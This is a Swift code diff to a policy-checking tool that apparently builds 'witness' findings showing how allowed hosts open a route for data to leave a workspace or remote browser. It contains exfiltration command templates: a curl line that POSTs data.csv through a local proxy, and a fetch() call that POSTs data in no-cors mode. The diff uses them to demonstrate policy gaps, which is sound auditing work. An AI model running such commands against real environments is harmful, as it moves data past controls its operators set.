@@ -63,7 +63,7 @@ public struct LocalProof: Sendable {
 
   /// Controls that are part of the compiled documents; the others leave every answer as it is.
   private static let inDocuments: Set<Control> = [
-    .dnsAllowlist, .proxyAllowlist, .endpointPolicy, .credentialCheck,
+    .dnsAllowlist, .proxyAllowlist, .endpointPolicy, .credentialCheck, .browserDoor,
   ]
 
   /// Routes that one control alone keeps closed: with it off, they are open.
@@ -131,14 +131,20 @@ public struct LocalProof: Sendable {
         case "spliced-host": "its TLS is passed through unread, so that the host inside can be another one"
         default: "what it is sent, it receives"
         }
+      let isBrowsers = isForBrowser(opening.subject)
       let shell = "curl -x http://127.0.0.1:3128 -d @data.csv \(LocalWalk.quoted("https://\(host)/"))"
       let witness = RouteWitness(
         request: .object([
           ("action", "cordon:Connect"), ("host", .string(host)), ("workspace", .string(workspace)),
         ]),
-        command: LocalWalk.inside(workspace, shell),
-        story: "Anybody in a workspace, through the proxy. The spec lists this host: \(why)\(reason).",
-        fix: "take the entry out, or bring inside what it is needed for", resource: "egress.hosts",
+        command: isBrowsers
+          ? "fetch('https://\(host)/', {method: 'POST', mode: 'no-cors', body: data})"
+          : LocalWalk.inside(workspace, shell),
+        story: isBrowsers
+          ? "Any page in a session of the remote browser. The spec lists this host for it: \(why)\(reason)."
+          : "Anybody in a workspace, through the proxy. The spec lists this host: \(why)\(reason).",
+        fix: "take the entry out, or bring inside what it is needed for",
+        resource: isBrowsers ? "browser.hosts" : "egress.hosts",
         location: opening.location)
       return (
         .externalUpload,
@@ -147,6 +153,14 @@ public struct LocalProof: Sendable {
           finding: .open(witness), steps: ["\(opening.location): \(opening.subject) is listed\(reason)"])
       )
     }
+  }
+
+  /// Whether a host is listed for the remote browser and not for workspaces.
+  private func isForBrowser(_ subject: String) -> Bool {
+    func lists(_ hosts: [AllowedHost]) -> Bool {
+      hosts.contains { "\(LocalInquiries.text($0.pattern)):\($0.port)" == subject }
+    }
+    return lists(environment.browser.hosts) && !lists(environment.allowedHosts)
   }
 
   // MARK: The neighbour
